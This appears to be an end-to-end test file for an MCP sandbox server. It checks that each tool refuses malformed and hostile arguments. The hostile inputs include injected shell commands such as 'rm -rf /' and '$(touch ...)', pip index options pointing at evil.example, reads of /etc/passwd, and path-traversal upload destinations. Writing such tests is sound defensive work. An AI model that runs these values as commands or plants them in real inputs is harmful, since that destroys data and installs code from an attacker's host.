// SPDX-License-Identifier: MIT
// Case 4: bad inputs to every tool through client.callTool. A tool that ran
// and refused is a result with isError: true whose text says what was wrong;
// an unknown tool is a JSON-RPC error -32602 (the SDK throws McpError).
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';

import { McpError } from '@modelcontextprotocol/sdk/types.js';

import { check } from './tap.mjs';
import { call, callErr, callOk, cfg } from './util.mjs';

// Package names that must never reach pip, each with what its refusal says.
const HOSTILE_PACKAGES = [
	['x; rm -rf /', "the package spec may not contain ';'"],
	['--index-url=http://evil.example/simple', 'looks like a pip option'],
	['pkg @ file:///etc', "the package spec may not contain '@'"],
	['-r /etc/passwd', 'looks like a pip option'],
	['sbxdemo --extra-index-url http://evil.example', "the package spec may not contain ':'"],
	['$(touch /tmp/pwned-e2e)', "the package spec may not contain '$'"],
	['`touch /tmp/pwned-e2e`', "the package spec may not contain '`'"],
	['../../etc/passwd', "the package spec may not contain '/'"],
	['http://evil.example/pkg.whl', "the package spec may not contain ':'"],
	['', "argument 'package_name' must not be empty"],
	['a'.repeat(5000), "argument 'package_name' is too long: 5000 characters, at most 200"],
	['pkg\nrm -rf /', 'the package spec may only hold printable ASCII'],
];

const NO_BOX = 'no-such-sandbox-e2e';

// What the errors say: the argument check (against the inputSchema) names
// the argument; the tools name the sandbox or the value they refused.
const missing = (arg) => `missing required argument '${arg}'`;
const notA = (arg, want, got) => `argument '${arg}' must be a ${want}, not ${got}`;
const unknownArg = (arg, tool) => `unknown argument '${arg}': ${tool} takes `;
const noBox = (id) => `no sandbox "${id}"`;
const badDest = (path) => `dest_path '${path}' is not allowed`;

// Every bad call, one row each: [TAP point, tool, arguments, what the call
// is, what its error text must contain]. The rows of one TAP point run
// together; the point fails with the list of the rows that were accepted or
// whose error says something else.
function badCalls(sid, file) {
	const C = 'create_sandbox: mistyped, hostile and taken names';
	const PY = 'execute_python_code: missing, mistyped, unknown sandbox';
	const SH = 'execute_terminal_command: missing, mistyped, unknown sandbox';
	const PI = 'install_package_in_sandbox: missing, mistyped, unknown sandbox';
	const PH = 'install_package_in_sandbox: hostile package names';
	const PS = 'check_package_installation_status: missing, mistyped, unknown sandbox, hostile name';
	const UP = 'upload_file_to_sandbox: missing, mistyped, unknown sandbox';
	const UD = 'upload_file_to_sandbox: dest_path outside /app/results and /tmp is refused';
	const py = 'execute_python_code';
	const sh = 'execute_terminal_command';
	const pi = 'install_package_in_sandbox';
	const ps = 'check_package_installation_status';
	const up = 'upload_file_to_sandbox';
	const src = { sandbox_id: sid, local_file_path: file };
	return [
		[C, 'create_sandbox', { name: 42 }, 'name: 42', notA('name', 'string', 'a number')],
		[C, 'create_sandbox', { name: ['a'] }, 'name: [a]', notA('name', 'string', 'an array')],
		[C, 'create_sandbox', { name: '../x' }, "name '../x'", 'invalid sandbox name "../x"'],
		[C, 'create_sandbox', { name: 'a b;rm -rf /' }, 'name with shell syntax', 'invalid sandbox name "a b;rm -rf /"'],
		[C, 'create_sandbox', { name: 'x'.repeat(65) }, 'a name of 65 characters', "argument 'name' is too long: 65 characters, at most 64"],
		[C, 'create_sandbox', { name: 'e2e-shared' }, 'the name of an existing sandbox', 'a sandbox named "e2e-shared" already exists'],
		[C, 'create_sandbox', { name: 'ok', extra: true }, 'an unknown argument', unknownArg('extra', 'create_sandbox')],

		[PY, py, {}, 'no arguments', missing('sandbox_id')],
		[PY, py, { sandbox_id: sid }, 'no code', missing('code')],
		[PY, py, { code: 'print(1)' }, 'no sandbox_id', missing('sandbox_id')],
		[PY, py, { sandbox_id: 7, code: 'print(1)' }, 'sandbox_id: 7', notA('sandbox_id', 'string', 'a number')],
		[PY, py, { sandbox_id: sid, code: 123 }, 'code: 123', notA('code', 'string', 'a number')],
		[PY, py, { sandbox_id: sid, code: 'print(1)', timeout: 'soon' }, "timeout: 'soon'", notA('timeout', 'number', 'a string')],
		[PY, py, { sandbox_id: sid, code: 'print(1)', timeout: -5 }, 'timeout: -5', "argument 'timeout' is out of range: -5"],
		[PY, py, { sandbox_id: NO_BOX, code: 'print(1)' }, 'unknown sandbox', noBox(NO_BOX)],
		[PY, py, { sandbox_id: '../../etc', code: 'print(1)' }, 'hostile sandbox id', noBox('../../etc')],
		[PY, py, { sandbox_id: sid, code: 'print(1)', extra: 1 }, 'an unknown argument', unknownArg('extra', py)],
		[PY, py, { sandbox_id: sid, code: '' }, 'empty code', "argument 'code' must not be empty"],

		[SH, sh, {}, 'no arguments', missing('sandbox_id')],
		[SH, sh, { sandbox_id: sid }, 'no command', missing('command')],
		[SH, sh, { command: 'true' }, 'no sandbox_id', missing('sandbox_id')],
		[SH, sh, { sandbox_id: sid, command: ['ls'] }, 'command: [ls]', notA('command', 'string', 'an array')],
		[SH, sh, { sandbox_id: sid, command: 'true', timeout: {} }, 'timeout: {}', notA('timeout', 'number', 'an object')],
		[SH, sh, { sandbox_id: NO_BOX, command: 'true' }, 'unknown sandbox', noBox(NO_BOX)],

		[PI, pi, {}, 'no arguments', missing('sandbox_id')],
		[PI, pi, { sandbox_id: sid }, 'no package_name', missing('package_name')],
		[PI, pi, { package_name: 'sbxdemo' }, 'no sandbox_id', missing('sandbox_id')],
		[PI, pi, { sandbox_id: sid, package_name: 5 }, 'package_name: 5', notA('package_name', 'string', 'a number')],
		[PI, pi, { sandbox_id: NO_BOX, package_name: 'sbxdemo' }, 'unknown sandbox', noBox(NO_BOX)],

		...HOSTILE_PACKAGES.map(([name, says]) => [PH, pi, { sandbox_id: sid, package_name: name }, JSON.stringify(name.slice(0, 60)), says]),

		[PS, ps, {}, 'no arguments', missing('sandbox_id')],
		[PS, ps, { sandbox_id: sid }, 'no package_name', missing('package_name')],
		[PS, ps, { sandbox_id: sid, package_name: null }, 'package_name: null', notA('package_name', 'string', 'null')],
		[PS, ps, { sandbox_id: NO_BOX, package_name: 'sbxdemo' }, 'unknown sandbox', noBox(NO_BOX)],
		[PS, ps, { sandbox_id: sid, package_name: 'x; rm -rf /' }, 'hostile name', "invalid package_name 'x; rm -rf /': the package spec may not contain ';'"],

		[UP, up, {}, 'no arguments', missing('sandbox_id')],
		[UP, up, { sandbox_id: sid }, 'no local_file_path', missing('local_file_path')],
		[UP, up, { local_file_path: file }, 'no sandbox_id', missing('sandbox_id')],
		[UP, up, { sandbox_id: sid, local_file_path: 17 }, 'local_file_path: 17', notA('local_file_path', 'string', 'a number')],
		[UP, up, { ...src, dest_path: false }, 'dest_path: false', notA('dest_path', 'string', 'a boolean')],
		[UP, up, { sandbox_id: NO_BOX, local_file_path: file }, 'unknown sandbox', noBox(NO_BOX)],

		[UD, up, { ...src, dest_path: '/app/results/../../etc' }, "dest_path with '..'", badDest('/app/results/../../etc')],
		[UD, up, { ...src, dest_path: '../../etc' }, "relative dest_path with '..'", badDest('../../etc')],
		[UD, up, { ...src, dest_path: '/app/results/a\u0000b' }, 'dest_path with NUL', "argument 'dest_path' contains a NUL character"],
		[UD, up, { ...src, dest_path: '/etc' }, 'dest_path /etc', badDest('/etc')],
		[UD, up, { ...src, dest_path: '/etc/profile.d/e2e.sh' }, 'dest_path /etc/profile.d/e2e.sh', badDest('/etc/profile.d/e2e.sh')],
		[UD, up, { ...src, dest_path: '/usr/bin' }, 'dest_path /usr/bin', badDest('/usr/bin')],
		[UD, up, { ...src, dest_path: '/proc/self' }, 'dest_path /proc/self', badDest('/proc/self')],
		[UD, up, { ...src, dest_path: '/no/such/dir/' }, 'dest_path in a missing directory', badDest('/no/such/dir/')],
	];
}

export async function badInputCase(client, sid) {
	const t = (name) => `bad input: ${name}`;
	const file = `${cfg.uploadDir}/bad-input-e2e.txt`;
	writeFileSync(file, 'bad input\n');

	const rows = badCalls(sid, file);
	for (const point of new Set(rows.map(([p]) => p))) {
		await check(t(point), async () => {
			const mine = rows.filter(([p]) => p === point);
			const wrong = [];
			for (const [, tool, args, what, says] of mine) {
				try {
					const r = await callErr(client, tool, args, what);
					assert.ok(r.text.includes(says), `${what}: the error does not say ${JSON.stringify(says)}: ${JSON.stringify(r.text)}`);
				} catch (e) {
					wrong.push(e.message.split('\n')[0]);
				}
			}
			assert.equal(wrong.length, 0, `${wrong.length} of ${mine.length} bad inputs not refused as they should be:\n${wrong.join('\n')}`);
		});
	}
	await check(t('the hostile names ran nothing in the sandbox'), async () => {
		const r = await callOk(client, 'execute_terminal_command', { sandbox_id: sid, command: 'ls /tmp/pwned-e2e 2>&1; ls /app/results >/dev/null && echo alive' });
		assert.match(r.stdout, /No such file/, r.stdout);
		assert.match(r.stdout, /alive/);
	});
	await check(t('no refused upload reached the sandbox'), async () => {
		const r = await callOk(client, 'execute_terminal_command', {
			sandbox_id: sid,
			command: 'ls -d /etc/bad-input-e2e.txt /etc/profile.d/e2e.sh /usr/bin/bad-input-e2e.txt 2>/dev/null; true',
		});
		assert.equal(r.stdout, '', `uploads reached: ${r.stdout}`);
	});
	await check(t('an unknown tool is JSON-RPC error -32602 (McpError)'), async () => {
		let thrown;
		try {
			await call(client, 'no_such_tool_e2e', {});
		} catch (e) {
			thrown = e;
		}
		assert.ok(thrown instanceof McpError, `expected McpError, got ${thrown}`);
		assert.equal(thrown.code, -32602);
	});
	await check(t('the session still works after the errors'), async () => {
		const r = await callOk(client, 'execute_terminal_command', { sandbox_id: sid, command: 'echo still-fine' });
		assert.equal(r.stdout, 'still-fine\n');
	});
}
